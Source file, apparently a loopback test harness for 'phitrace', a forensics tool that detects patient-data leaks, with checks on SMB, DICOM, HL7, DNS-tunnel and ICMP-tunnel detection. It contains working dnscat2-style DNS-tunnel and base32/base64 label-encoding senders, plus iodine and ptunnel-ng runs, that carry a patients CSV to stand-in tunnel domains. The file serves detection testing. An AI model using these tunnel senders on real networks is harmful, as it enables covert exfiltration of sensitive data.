"""live_more.py - the rest of the real-client matrix of make test-live (issue 12): SMB, DICOM
query/retrieve, HL7 over MLLP, DNS and ICMP tunnels, recorded into a capture of their own
(every packet on loopback, not only TCP) and checked separately.

    SMB    smbclient put and get against smbd (signing on, encryption off), and a put to a
           share with `smb encrypt = required` (phitrace must say the content is unreadable)
    DICOM  storescu, getscu (C-GET) and movescu (C-MOVE to its own port) against dcmqrscp;
           pynetdicom (PyPI) when it is installed
    HL7    python-hl7's mllp_send and socat (a netcat-style sender of 0x0b ... 0x1c 0x0d frames)
           against an MLLP listener that ACKs every message
    DNS    a dnscat2-style sender (doc/protocol.md: hex packets, SYN then MSG with seq/ack, TXT
           queries) and base32 and base64url label encoders, through dnsmasq (the hospital's
           resolver) forwarding to an authoritative test server; iodine against iodined
           when /dev/net/tun can be opened
    ICMP   ptunnel-ng (client and proxy) carrying a TCP stream in echo requests

A row whose program is missing or cannot run here is skipped with its reason, never failed.
Runs inside run_live.py's network namespace (inner) and checks outside it (check).
"""
import hashlib
import json
import os
import shutil
import socket
import socketserver
import struct
import subprocess
import threading
import time

import live_matrix

PY = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else "python3"
SMB = "127.0.0.10"          # smbd listens on every address; the share
SMB_ENC = "127.0.0.11"      # ... the encrypted share, reached at another address
MLLP_HL7 = ("127.0.0.12", 2575)
MLLP_SOCAT = ("127.0.0.13", 2575)
QRSCP = ("127.0.0.14", 11113)
MOVE_DEST = ("127.0.0.16", 11115)
PYNETDICOM = ("127.0.0.17", 11113)
RESOLVER = "127.0.0.19"     # dnsmasq: inside the home network of this capture
AUTH = "127.0.0.20"         # the tunnel domains' name server
ICMP_PROXY = "127.0.0.21"
IODINED = "127.0.0.22"
IODINE_NET = ("10.53.0.1/27", "10.53.0.9")   # iodined's tunnel network; a peer beyond it
HOME_NET = "127.0.0.1/32,%s/32" % RESOLVER
SMB_USER, SMB_PASS = "root", "phitrace-live"
# four tunnels under one parent, of different sizes: four groups, one finding each
DNSCAT_DOMAIN = "dc.tunnel.example"
B32_DOMAIN = "b32.tunnel.example"
B64_DOMAIN = "b64.tunnel.example"
IODINE_DOMAIN = "io.tunnel.example"


def pip_pynetdicom(work):
    """Outside the namespace (it has no network): pynetdicom from PyPI into work/pylib, best
    effort (not packaged in Debian 12; where PyPI cannot be reached its row is skipped)."""
    if subprocess.run([PY, "-c", "import pynetdicom"], capture_output=True).returncode == 0:
        return
    try:
        subprocess.run([PY, "-m", "pip", "install", "--quiet", "--disable-pip-version-check",
                        "--retries", "0", "--timeout", "10", "--target",
                        os.path.join(work, "pylib"), "pynetdicom"], capture_output=True,
                       timeout=180)
    except subprocess.TimeoutExpired:
        pass


def pylib_env(work):
    return dict(os.environ, PYTHONPATH=os.path.join(work, "pylib"))


def skip_reasons(work):
    """{row group: reason} for the groups that cannot run on this machine."""
    out = {}
    need = {"smb": ("smbd", "smbclient", "smbpasswd"), "dicom-qr": ("dcmqrscp", "getscu",
                                                                     "movescu", "storescu"),
            "hl7-mllp_send": ("mllp_send",), "hl7-socat": ("socat",), "dns": ("dnsmasq",),
            "iodine": ("iodine", "iodined"), "icmp": ("ptunnel-ng",)}
    for group, tools in need.items():
        miss = [t for t in tools if shutil.which(t) is None]
        if miss:
            out[group] = "%s not installed (make deps)" % ", ".join(miss)
    if subprocess.run([PY, "-c", "import pynetdicom"], capture_output=True,
                      env=pylib_env(work)).returncode != 0:
        out["pynetdicom"] = ("pynetdicom is not installed and `pip install pynetdicom` failed "
                             "(it is not packaged in Debian 12; PyPI cannot be reached here)")
    if "iodine" not in out:
        try:
            os.close(os.open("/dev/net/tun", os.O_RDWR))
        except OSError as e:
            out["iodine"] = "/dev/net/tun cannot be opened here (%s)" % e.strerror
    return out


# ---- SMB -------------------------------------------------------------------------------------

SMB_CONF = """[global]
  workgroup = CLINIC
  interfaces = lo
  bind interfaces only = no
  smb ports = 445
  disable netbios = yes
  private dir = %(d)s/private
  lock directory = %(d)s/lock
  state directory = %(d)s/state
  cache directory = %(d)s/cache
  pid directory = %(d)s/pid
  log file = %(d)s/log.%%m
  passdb backend = tdbsam
  server signing = mandatory
  server smb encrypt = if_required
  load printers = no
  printing = bsd
  printcap name = /dev/null
  disable spoolss = yes
[share]
  path = %(d)s/share
  read only = no
[enc]
  path = %(d)s/enc
  read only = no
  smb encrypt = required
"""


def smb_rows(d, files, procs):
    s = os.path.join(d, "smb")
    for sub in ("share", "enc", "private", "lock", "state", "cache", "pid"):
        os.makedirs(os.path.join(s, sub), exist_ok=True)
    conf = os.path.join(s, "smb.conf")
    with open(conf, "w") as f:
        f.write(SMB_CONF % {"d": s})
    subprocess.run(["smbpasswd", "-c", conf, "-a", "-s", SMB_USER],
                   input="%s\n%s\n" % (SMB_PASS, SMB_PASS), text=True, check=True,
                   capture_output=True)
    # a session of its own: smbd signals its whole process group when it stops
    procs.append(subprocess.Popen(["smbd", "-F", "--no-process-group", "-s", conf],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                  start_new_session=True))
    live_matrix.wait_port((SMB, 445))
    auth = "%s%%%s" % (SMB_USER, SMB_PASS)
    user = "WORKGROUP\\" + SMB_USER  # smbclient's default domain, as NTLMSSP carries it
    put = files("smbclient-put", 52000)
    get = files("smbclient-get", 47000)
    shutil.copy(get["path"], os.path.join(s, "share", get["name"]))
    enc = files("smbclient-put-encrypted", 30000)
    return [
        ("smbclient put -> smbd (signed)",
         ["smbclient", "//%s/share" % SMB, "-U", auth, "-c", "put %s %s" % (put["path"],
                                                                             put["name"])],
         dict(put, proto="smb", user=user, direction="upload",
              objname="\\\\%s\\share\\%s" % (SMB, put["name"]))),
        ("smbclient get <- smbd (signed)",
         ["smbclient", "//%s/share" % SMB, "-U", auth, "-c", "get %s /dev/null" % get["name"]],
         dict(get, proto="smb", user=user, direction="download",
              objname="\\\\%s\\share\\%s" % (SMB, get["name"]))),
        ("smbclient put -> smbd (SMB3 encryption required)",
         ["smbclient", "//%s/enc" % SMB_ENC, "-U", auth, "-c", "put %s %s" % (enc["path"],
                                                                               enc["name"])],
         dict(enc, proto="smb-encrypted", server=SMB_ENC)),
    ]


# ---- DICOM query/retrieve --------------------------------------------------------------------

QR_CONF = """NetworkTCPPort  = %(port)d
MaxPDUSize      = 16384
MaxAssociations = 16
HostTable BEGIN
movescu = (MOVESCU, %(dest)s, %(dport)d)
HostTable END
VendorTable BEGIN
VendorTable END
AETable BEGIN
QRSCP  %(db)s  RW  (200, 1024mb)  ANY
AETable END
"""


def dicom_uids(path):
    """(StudyInstanceUID, SOPInstanceUID) of a Part 10 file, by dcmdump."""
    out = subprocess.run(["dcmdump", "+P", "0020,000d", "+P", "0008,0018", path],
                         capture_output=True, text=True).stdout
    uids = [line.split("[", 1)[1].split("]", 1)[0] for line in out.splitlines() if "[" in line]
    return uids[0], uids[1]


def dicom_rows(d, data, procs):
    q = os.path.join(d, "qrscp")
    os.makedirs(os.path.join(q, "db"), exist_ok=True)
    conf = os.path.join(q, "dcmqrscp.cfg")
    with open(conf, "w") as f:
        f.write(QR_CONF % {"port": QRSCP[1], "dest": MOVE_DEST[0], "dport": MOVE_DEST[1],
                           "db": os.path.join(q, "db")})
    # forking (its --single-process mode crashes on A-RELEASE in dcmtk 3.6.7)
    procs.append(subprocess.Popen(["dcmqrscp", "-c", conf],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    live_matrix.wait_port(QRSCP)
    rows = []
    for tool, img in (("storescu", "IMG01.dcm"), ("getscu", "IMG02.dcm"),
                      ("movescu", "IMG03.dcm")):
        path = os.path.join(data, "dicom", img)
        study, sop = dicom_uids(path)
        # dcmqrscp's database is filled by its own C-STORE SCP (that association is the
        # storescu row for IMG01, a setup step for the others)
        store = ["storescu", "-aet", "MODALITY", "-aec", "QRSCP", QRSCP[0], str(QRSCP[1]), path]
        out = os.path.join(q, tool)
        os.makedirs(out, exist_ok=True)
        if tool == "storescu":
            rows.append(("storescu -> dcmqrscp C-STORE", store,
                         dict(proto="dicom", command="C-STORE-RQ", sop=sop, direction="upload",
                              calling="MODALITY", src=path)))
            continue
        rows.append(("(setup) storescu %s -> dcmqrscp" % img, store, None))
        key = ["-S", "-k", "0008,0052=STUDY", "-k", "0020,000d=" + study]
        if tool == "getscu":
            argv = ["getscu", "-aet", "GETSCU", "-aec", "QRSCP", "-od", out] + key + \
                [QRSCP[0], str(QRSCP[1])]
            rows.append(("getscu <- dcmqrscp C-GET", argv,
                         dict(proto="dicom", command="C-STORE-RQ", sop=sop,
                              direction="download", calling="GETSCU", request="C-GET-RQ",
                              outdir=out)))
        else:
            argv = ["movescu", "-aet", "MOVESCU", "-aec", "QRSCP", "-aem", "MOVESCU", "+P",
                    str(MOVE_DEST[1]), "-od", out] + key + [QRSCP[0], str(QRSCP[1])]
            rows.append(("movescu <- dcmqrscp C-MOVE (to movescu's own port)", argv,
                         dict(proto="dicom", command="C-STORE-RQ", sop=sop, direction="upload",
                              calling="QRSCP", request="C-MOVE-RQ", outdir=out,
                              server=MOVE_DEST[0])))
    return rows


def pynetdicom_row(work, data):
    path = os.path.join(data, "dicom", "IMG04.dcm")
    code = ("import pydicom, pynetdicom\n"
            "ae = pynetdicom.AE(ae_title='PYNETDICOM')\n"
            "ds = pydicom.dcmread(%r)\nae.add_requested_context(ds.SOPClassUID)\n"
            "a = ae.associate(%r, %d, ae_title='QRSCP')\nassert a.is_established\n"
            "st = a.send_c_store(ds)\na.release()\nassert st.Status == 0\n" % (
                path, PYNETDICOM[0], PYNETDICOM[1]))
    return [("pynetdicom send_c_store -> dcmqrscp",
             ["env", "PYTHONPATH=" + os.path.join(work, "pylib"), PY, "-c", code],
             dict(proto="dicom", command="C-STORE-RQ", sop=dicom_uids(path)[1],
                  direction="upload", calling="PYNETDICOM", src=path))]


# ---- HL7 over MLLP ---------------------------------------------------------------------------

class MLLPListener(socketserver.BaseRequestHandler):
    """Reads <VT> message <FS><CR> frames and answers each with an ACK (MSA|AA)."""

    def handle(self):
        buf = b""
        while True:
            chunk = self.request.recv(65536)
            if not chunk:
                return
            buf += chunk
            while b"\x1c\r" in buf:
                frame, buf = buf.split(b"\x1c\r", 1)
                msg = frame.lstrip(b"\x0b")
                msh = msg.split(b"\r", 1)[0].split(b"|")
                ctl = msh[9] if len(msh) > 9 else b""
                ack = (b"MSH|^~\\&|LISTENER|OUT|%s|%s|20260101000000||ACK|A%s|P|2.5.1\r"
                       b"MSA|AA|%s\r" % (msh[2] if len(msh) > 2 else b"",
                                         msh[3] if len(msh) > 3 else b"", ctl, ctl))
                self.request.sendall(b"\x0b" + ack + b"\x1c\r")


class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
    allow_reuse_address = True
    daemon_threads = True


def hl7_messages(path):
    """The messages of an HL7 batch file (one per MSH segment), CR-separated segments."""
    text = open(path, "rb").read().replace(b"\r\n", b"\r").replace(b"\n", b"\r")
    msgs = [b"MSH" + m for m in text.split(b"MSH")[1:]]
    return [b"\r".join(s for s in m.split(b"\r") if s) + b"\r" for m in msgs]


def hl7_rows(d, data, skip):
    for addr in (MLLP_HL7, MLLP_SOCAT):
        srv = Server(addr, MLLPListener)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    batch = os.path.join(data, "hl7", "adt_batch.hl7")
    msgs = hl7_messages(batch)
    framed = os.path.join(d, "adt_batch.mllp")
    with open(framed, "wb") as f:
        f.write(b"".join(b"\x0b" + m + b"\x1c\r" for m in msgs))
    want = dict(proto="hl7", msg_type="ADT^A01", messages=len(msgs), individuals=10)
    rows = [
        ("python-hl7 mllp_send -> MLLP listener",
         ["mllp_send", "--loose", "--file", batch, "--port", str(MLLP_HL7[1]), MLLP_HL7[0]],
         dict(want, server=MLLP_HL7[0])),
        ("socat (0x0b/0x1c 0x0d frames) -> MLLP listener",
         ["sh", "-c", "socat -t 2 STDIO TCP:%s:%d < %s > /dev/null" % (
             MLLP_SOCAT[0], MLLP_SOCAT[1], framed)],
         dict(want, server=MLLP_SOCAT[0])),
    ]
    return [r for r, group in zip(rows, ("hl7-mllp_send", "hl7-socat")) if group not in skip]


# ---- DNS tunnels -----------------------------------------------------------------------------

def dns_name(qname):
    return b"".join(bytes([len(x)]) + x for x in qname.encode().split(b".")) + b"\0"


def dns_parse_query(msg):
    """(id, qname, qtype) of a query; qname in presentation form (lower-case kept)."""
    qid = struct.unpack(">H", msg[:2])[0]
    i, labels = 12, []
    while msg[i]:
        labels.append(msg[i + 1:i + 1 + msg[i]].decode("ascii", "replace"))
        i += 1 + msg[i]
    qtype = struct.unpack(">H", msg[i + 1:i + 3])[0]
    return qid, ".".join(labels), qtype, msg[12:i + 5]


def txt_rdata(text):
    b = text.encode()
    out = b""
    while b:
        out += bytes([min(255, len(b))]) + b[:255]
        b = b[255:]
    return out or b"\0"


# what the dnscat2-style server sends its client, 60 bytes in each MSG answer (downstream)
DNSCAT_DOWN = b"".join(b"%d: run collect.sh --ward %d --out /tmp/x%d.csv\n" % (i, i % 7, i)
                       for i in range(24))  # fewer than the client sends MSGs


class AuthServer(socketserver.BaseRequestHandler):
    """The tunnel domains' authoritative server: answers dnscat2 packets (SYN with its own
    SYN, MSG with an ACK and the next 60 bytes of DNSCAT_DOWN, FIN with FIN) hex-encoded in
    TXT, other names with TXT "ok"."""
    sent = 0

    def handle(self):
        msg, sock = self.request
        try:
            qid, qname, qtype, question = dns_parse_query(msg)
        except (IndexError, struct.error):
            return
        answer = "ok"
        low = qname.lower()
        if low.endswith("." + DNSCAT_DOMAIN):
            raw = bytes.fromhex("".join(low[:-len(DNSCAT_DOMAIN) - 1].split(".")))
            pid, typ, sess = struct.unpack(">HBH", raw[:5])
            if typ == 0:      # SYN: answer with the server's SYN (isn 0x1000)
                answer = struct.pack(">HBHHH", pid, 0, sess, 0x1000, 0).hex()
            elif typ == 1:    # MSG: acknowledge the data, send the next piece
                seq, _ack = struct.unpack(">HH", raw[5:9])
                nxt = (seq + len(raw) - 9) & 0xffff
                at = AuthServer.sent
                part = DNSCAT_DOWN[at:at + 60]
                AuthServer.sent += len(part)
                answer = (struct.pack(">HBHHH", pid, 1, sess, (0x1000 + at) & 0xffff, nxt) +
                          part).hex()
            else:
                answer = struct.pack(">HBH", pid, 2, sess).hex() + "00"
        rr = (b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, len(txt_rdata(answer))) +
              txt_rdata(answer))
        head = struct.pack(">HHHHHH", qid, 0x8400, 1, 1, 0, 0)
        sock.sendto(head + question + (rr if qtype in (16, 255) else b""), self.client_address)


class UDPServer(socketserver.ThreadingMixIn, socketserver.UDPServer):
    allow_reuse_address = True
    daemon_threads = True


def resolve(name, qtype=16, server=RESOLVER, tries=3, source="127.0.0.1"):
    """One query through the resolver (retransmitted on loss, as stub resolvers do)."""
    qid = int.from_bytes(os.urandom(2), "big")
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack(
        ">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((source, 0))
    s.settimeout(1.0)
    try:
        for _ in range(tries):
            s.sendto(q, (server, 53))
            try:
                return s.recv(4096)
            except socket.timeout:
                continue
    finally:
        s.close()
    return b""


def labels(text, size=60):
    return ".".join(text[i:i + size] for i in range(0, len(text), size))


def dnscat2_send(payload, domain):
    """dnscat2's client framing (doc/protocol.md): SYN, then MSG packets of at most 100 data
    bytes (seq counts bytes, ack the server's), then FIN; each packet hex in TXT queries."""
    sess = 0x4a21
    pid = lambda: int.from_bytes(os.urandom(2), "big")
    resolve(labels(struct.pack(">HBHHH", pid(), 0, sess, 0x2200, 0).hex()) + "." + domain)
    seq, ack = 0x2200, 0x1000
    for i in range(0, len(payload), 100):
        part = payload[i:i + 100]
        pkt = struct.pack(">HBHHH", pid(), 1, sess, seq, ack) + part
        resolve(labels(pkt.hex()) + "." + domain)
        seq = (seq + len(part)) & 0xffff
    resolve(labels(struct.pack(">HBH", pid(), 2, sess).hex() + "00") + "." + domain)


def counter_send(payload, domain, enc):
    """A plain label encoder: the whole payload encoded, cut into names of 3 labels."""
    text = enc(payload)
    step = 150
    for i in range(0, len(text), step):
        resolve(labels(text[i:i + step]) + "." + domain)


DNSMASQ_ARGS = ["dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts", "--bind-interfaces",
                "--listen-address=" + RESOLVER, "--port=53", "--cache-size=0", "--pid-file",
                "--user=root", "--server=/example/%s@%s" % (AUTH, RESOLVER),
                "--server=/%s/%s@%s" % (IODINE_DOMAIN, IODINED, RESOLVER)]
IODINE_PW = "phitrace-live"


def iodine_send(csv):
    """iodine's client through the resolver (-r: no raw mode, every packet a DNS query); once
    its tun device is up, each line of csv is one UDP datagram to a peer beyond iodined,
    routed into the client's tun device, so it travels upstream in iodine's queries."""
    cli = subprocess.Popen(["iodine", "-f", "-r", "-P", IODINE_PW, RESOLVER, IODINE_DOMAIN],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    server_ip = IODINE_NET[0].split("/")[0]
    try:
        dev = None
        for _ in range(100):
            # iodined's device has the network's first address, the client's another one
            for line in subprocess.run(["ip", "-o", "-4", "addr", "show"], capture_output=True,
                                       text=True).stdout.splitlines():
                f = line.split()
                if f[3].rsplit(".", 1)[0] == server_ip.rsplit(".", 1)[0] and \
                        f[3].split("/")[0] != server_ip:
                    dev = f[1]
            if dev is not None:
                break
            time.sleep(0.2)
        if dev is None:
            raise SystemExit("iodine: no tunnel device after 20 s")
        subprocess.run(["ip", "route", "add", IODINE_NET[1] + "/32", "dev", dev], check=True)
        time.sleep(1.0)  # iodine's first polls after the device is up
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for line in open(csv, "rb"):
            s.sendto(line, (IODINE_NET[1], 9999))
            time.sleep(0.1)  # no faster than iodine drains its queue upstream
        time.sleep(2.0)
    finally:
        cli.terminate()
        cli.wait(timeout=10)


def iodine_rows(d, data, procs):
    procs.append(subprocess.Popen(["iodined", "-f", "-c", "-P", IODINE_PW, "-l", IODINED, "-p",
                                   "53", IODINE_NET[0], IODINE_DOMAIN],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    time.sleep(0.5)
    csv = os.path.join(data, "exports", "patients.csv")
    code = "import sys; sys.path.insert(0, %r); import live_more as m; m.iodine_send(%r)" % (
        os.path.dirname(os.path.abspath(__file__)), csv)
    return [("iodine -> iodined via dnsmasq (a CSV in UDP datagrams through the tunnel)",
             [PY, "-c", code], dict(proto="iodine", domain=IODINE_DOMAIN, client="127.0.0.1",
                                    resolver=RESOLVER, src=csv, individuals=20))]


def dns_rows(d, data, procs):
    srv = UDPServer((AUTH, 53), AuthServer)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    procs.append(subprocess.Popen(DNSMASQ_ARGS + ["--log-facility=" + os.path.join(d, "dnsmasq.log")],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    time.sleep(0.5)
    csv = os.path.join(data, "exports", "patients.csv")
    body = open(csv, "rb").read()
    want = dict(proto="dns-tunnel", size=len(body), sha256=hashlib.sha256(body).hexdigest(),
                client="127.0.0.1", resolver=RESOLVER, individuals=20)
    code = "import sys; sys.path.insert(0, %r); import live_more as m; " % os.path.dirname(
        os.path.abspath(__file__))
    down = dict(proto="dns-tunnel-down", domain=DNSCAT_DOMAIN, encoding="dnscat2",
                size=len(DNSCAT_DOWN), sha256=hashlib.sha256(DNSCAT_DOWN).hexdigest())
    rows = [("dnscat2-style sender (hex packets, TXT) via dnsmasq",
             [PY, "-c", code + "m.dnscat2_send(open(%r, 'rb').read(), %r)" % (csv, DNSCAT_DOMAIN)],
             dict(want, domain=DNSCAT_DOMAIN, encoding="dnscat2", down=down)),
            ("base32 label encoder via dnsmasq",
             [PY, "-c", code + "import base64; m.counter_send(open(%r, 'rb').read(), %r, lambda b: "
              "base64.b32encode(b).decode().rstrip('=').lower())" % (csv, B32_DOMAIN)],
             dict(want, domain=B32_DOMAIN, encoding="base32")),
            ("base64url label encoder via dnsmasq",
             [PY, "-c", code + "import base64; m.counter_send(open(%r, 'rb').read(), %r, lambda b: "
              "base64.urlsafe_b64encode(b).decode().rstrip('='))" % (csv, B64_DOMAIN)],
             dict(want, domain=B64_DOMAIN, encoding="base64url"))]
    return rows


# ---- ICMP tunnel ---------------------------------------------------------------------------

def icmp_rows(d, data, procs):
    """ptunnel-ng's proxy at ICMP_PROXY forwards to a TCP sink; its client takes a TCP
    connection on a local port and carries it in ICMP echo requests to the proxy."""
    got = os.path.join(d, "icmp-received.csv")
    procs.append(subprocess.Popen(["socat", "-u", "TCP-LISTEN:7000,bind=127.0.0.1,reuseaddr",
                                   "OPEN:%s,creat,trunc" % got], stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL))
    procs.append(subprocess.Popen(["ptunnel-ng", "-r127.0.0.1", "-R7000"],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    time.sleep(0.5)
    csv = os.path.join(data, "exports", "patients.csv")
    script = ("ptunnel-ng -p%s -l7001 -r127.0.0.1 -R7000 >/dev/null 2>&1 & c=$!; sleep 1; "
              "socat -u OPEN:%s TCP:127.0.0.1:7001; sleep 3; kill $c; cmp %s %s" % (
                  ICMP_PROXY, csv, csv, got))
    return [("ptunnel-ng client -> ptunnel-ng proxy (a CSV over TCP in ICMP echo)",
             ["sh", "-c", script], dict(proto="icmp", client="127.0.0.1", server=ICMP_PROXY,
                                        size=os.path.getsize(csv), individuals=20))]


# ---- recording -------------------------------------------------------------------------------

def inner(work, data):
    """Inside the namespace: record the rows into more.pcap, what each sent into more.json."""
    d = os.path.join(work, "more")
    files = live_matrix.file_maker(d)
    tcp = live_matrix.start_tcpdump(os.path.join(work, "more.pcap"),
                                    os.path.join(d, "tcpdump.err"), ())
    skip = skip_reasons(work)
    results = [dict(label=group, skipped=why) for group, why in sorted(skip.items())]
    procs = []
    try:
        runs = []
        groups = (("smb", lambda: smb_rows(d, files, procs)),
                  ("dicom-qr", lambda: dicom_rows(d, data, procs)),
                  ("pynetdicom", lambda: pynetdicom_row(work, data)),
                  ("hl7", lambda: hl7_rows(d, data, skip)),
                  ("dns", lambda: dns_rows(d, data, procs)),
                  ("iodine", lambda: iodine_rows(d, data, procs)),
                  ("icmp", lambda: icmp_rows(d, data, procs)))
        for group, make in groups:
            if group not in skip:
                runs += make()
        live_matrix.run_rows(runs, results, 60)
    finally:
        live_matrix.finish(procs, tcp, os.path.join(work, "more.json"), results)


# ---- the check (outside the namespace) -------------------------------------------------------

def dataset(b):
    """A Part 10 file's data set (after the preamble, DICM and the File Meta group)."""
    return b[144 + struct.unpack("<I", b[140:144])[0]:]


def check(work, binary, expect, analyze):
    import sqlite3  # noqa: F401  (analyze returns a connection)
    case = os.path.join(work, "case-more")
    p = subprocess.run([binary, "analyze", "-q", "--home-net", HOME_NET,
                        os.path.join(work, "more.pcap"), "-o", case], capture_output=True,
                       text=True, timeout=600)
    expect("more: analyze exits 0", p.returncode == 0, p.stderr[-500:])
    con = sqlite3.connect(os.path.join(case, "evidence.db"))
    for t in json.load(open(os.path.join(work, "more.json"))):
        if "skipped" in t:
            print("SKIP  %s: %s" % (t["label"], t["skipped"]))
            continue
        if t["rc"] != 0:
            expect(t["label"], False, "the client failed: rc %d %s" % (t["rc"], t["stderr"]))
            continue
        ok, detail, what = CHECKS[t["proto"]](con, t, binary, case)
        expect("%s: %s" % (t["label"], what), ok, detail)


def check_smb(con, t, binary, case):
    obj = con.execute("SELECT protocol, name, size, direction, complete FROM object WHERE "
                      "sha256 = ? AND depth = 0", (t["sha256"],)).fetchall()
    want = [("smb", t["objname"], t["size"], t["direction"], 1)]
    col = "write_sha256" if t["direction"] == "upload" else "read_sha256"
    rows = con.execute("SELECT name, user, kind, bytes_written, bytes_read FROM smb_file WHERE "
                       "%s = ?" % col, (t["sha256"],)).fetchall()
    n = t["size"]
    wrow = [(t["name"], t["user"], "file", n if t["direction"] == "upload" else 0,
             n if t["direction"] == "download" else 0)]
    return (obj == want and rows == wrow, "object %s want %s; smb_file %s want %s" % (
        obj, want, rows, wrow), "smb %s, %d bytes, %s, user %s" % (t["name"], n, t["direction"],
                                                                  t["user"]))


def check_smb_encrypted(con, t, binary, case):
    flows = [r[0] for r in con.execute("SELECT id FROM flow WHERE server_addr = ? AND app = 'smb'",
                                       (t["server"],))]
    anomalies = con.execute("SELECT count(*) FROM anomaly WHERE kind = 'smb.encrypted'"
                            ).fetchone()[0]
    lim = con.execute("SELECT count(*) FROM limitation WHERE kind = 'smb_encrypted'").fetchone()[0]
    leaked = con.execute("SELECT count(*) FROM object WHERE sha256 = ?", (t["sha256"],)
                         ).fetchone()[0]
    files = con.execute("SELECT count(*) FROM smb_file WHERE flow_id IN (%s)" % ",".join(
        "?" * len(flows)), flows).fetchone()[0] if flows else -1
    ok = len(flows) == 1 and anomalies >= 1 and lim == 1 and leaked == 0 and files == 0
    return ok, "flows %s, smb.encrypted anomalies %d, limitation %d, object %d, smb_file %d" % (
        flows, anomalies, lim, leaked, files), \
        "an smb.encrypted anomaly and limitation, no transfer recorded"


def check_dicom(con, t, binary, case):
    rows = con.execute(
        "SELECT m.sha256, m.direction, m.flow_id FROM dicom_message m JOIN dicom_assoc a ON "
        "a.flow_id = m.flow_id WHERE m.command = ? AND m.sop_instance = ? AND a.calling_ae = ?",
        (t["command"], t["sop"], t["calling"])).fetchall()
    if len(rows) != 1:
        return False, "dicom_message rows %s" % rows, "dicom %s %s" % (t["command"], t["sop"])
    sha, _, flow = rows[0]
    obj = con.execute("SELECT protocol, direction, complete FROM object WHERE sha256 = ? AND "
                      "depth = 0 AND flow_id = ?", (sha, flow)).fetchall()
    stored = subprocess.run([binary, "export-object", case, sha], capture_output=True).stdout
    if "src" in t:
        sent = open(t["src"], "rb").read()
    else:
        got = [os.path.join(t["outdir"], f) for f in os.listdir(t["outdir"])]
        sent = open(got[0], "rb").read() if len(got) == 1 else b"?"
    same = dataset(stored) == dataset(sent)
    req = True
    if "request" in t:
        req = con.execute("SELECT count(*) FROM dicom_message WHERE command = ?",
                          (t["request"],)).fetchone()[0] == 1
    ok = obj == [("dicom", t["direction"], 1)] and same and req
    return ok, "object %s, data set identical %s, %s seen %s" % (obj, same, t.get("request"), req), \
        "dicom %s of %s, %s, data set identical%s" % (
            t["command"], t["sop"], t["direction"],
            ", after " + t["request"] if "request" in t else "")


def check_hl7(con, t, binary, case):
    rows = con.execute("SELECT h.direction, h.msg_type, count(*) FROM hl7_message h JOIN flow f "
                       "ON f.id = h.flow_id WHERE f.server_addr = ? GROUP BY 1, 2 ORDER BY 1, 2",
                       (t["server"],)).fetchall()
    want = [("c2s", t["msg_type"], t["messages"]), ("s2c", "ACK", t["messages"])]
    ind = con.execute("SELECT individuals, verdict FROM exfil_event WHERE destination = ?",
                      (t["server"],)).fetchall()
    wind = [(t["individuals"], "confirmed")]
    return rows == want and ind == wind, "hl7_message %s want %s; exfil_event %s want %s" % (
        rows, want, ind, wind), "%d %s messages and their ACKs, %d individuals confirmed" % (
        t["messages"], t["msg_type"], t["individuals"])


def check_dns_tunnel_down(con, t):
    """The server's data in its TXT answers: a second object, direction download."""
    d = t["down"]
    obj = con.execute("SELECT encoding, size, direction, complete FROM object WHERE protocol = "
                      "'dns-tunnel' AND sha256 = ? AND name = ?", (d["sha256"], d["domain"])
                      ).fetchall()
    want = [(d["encoding"], d["size"], "download", 1)]
    return obj == want, "downstream object %s want %s" % (obj, want)


def check_dns_tunnel(con, t, binary, case):
    obj = con.execute("SELECT name, encoding, size, direction, complete FROM object WHERE "
                      "protocol = 'dns-tunnel' AND sha256 = ? AND name = ?", (t["sha256"], t["domain"])
                      ).fetchall()
    want = [(t["domain"], t["encoding"], t["size"], "upload", 1)]
    fnd = con.execute("SELECT source, destination, detail FROM finding WHERE heuristic = "
                      "'dns_tunnel' AND destination = ?", (t["domain"],)).fetchall()
    fok = len(fnd) == 1 and fnd[0][0] == t["client"] and \
        t["resolver"] in json.loads(fnd[0][2]).get("resolvers", [])
    ind = con.execute("SELECT individuals, verdict FROM exfil_event WHERE destination = ?",
                      (t["domain"],)).fetchall()
    wind = [(t["individuals"], "confirmed")]
    dok, ddetail = check_dns_tunnel_down(con, t) if "down" in t else (True, "")
    return obj == want and fok and ind == wind and dok, "object %s want %s; finding %s; " \
        "exfil_event %s want %s; %s" % (obj, want, fnd, ind, wind, ddetail), \
        "dns_tunnel finding (client %s, resolver %s, %s), %s object identical, %d individuals%s" % (
            t["client"], t["resolver"], t["domain"], t["encoding"], t["individuals"],
            "; the answers' data a download object, identical" if "down" in t else "")


def check_iodine(con, t, binary, case):
    fnd = con.execute("SELECT source, detail FROM finding WHERE heuristic = 'dns_tunnel' AND "
                      "destination = ?", (t["domain"],)).fetchall()
    fok = len(fnd) == 1 and fnd[0][0] == t["client"] and \
        t["resolver"] in json.loads(fnd[0][1]).get("resolvers", [])
    obj = con.execute("SELECT o.sha256, o.direction, p.individuals FROM object o LEFT JOIN "
                      "phi_object p ON p.object_sha256 = o.sha256 WHERE o.protocol = "
                      "'dns-tunnel' AND o.encoding = 'iodine' AND o.name = ?",
                      (t["domain"],)).fetchall()
    lines = open(t["src"], "rb").read().splitlines(True)
    body = subprocess.run([binary, "export-object", case, obj[0][0]], capture_output=True
                          ).stdout if len(obj) == 1 else b""
    # each datagram whole in the decoded packets (an IPv4/UDP header before each)
    found = sum(1 for ln in lines if ln in body)
    # the individuals are not asserted exactly: the packets' binary headers sit between the
    # lines, and the PHI stage's carving of printable runs joins a header byte that happens
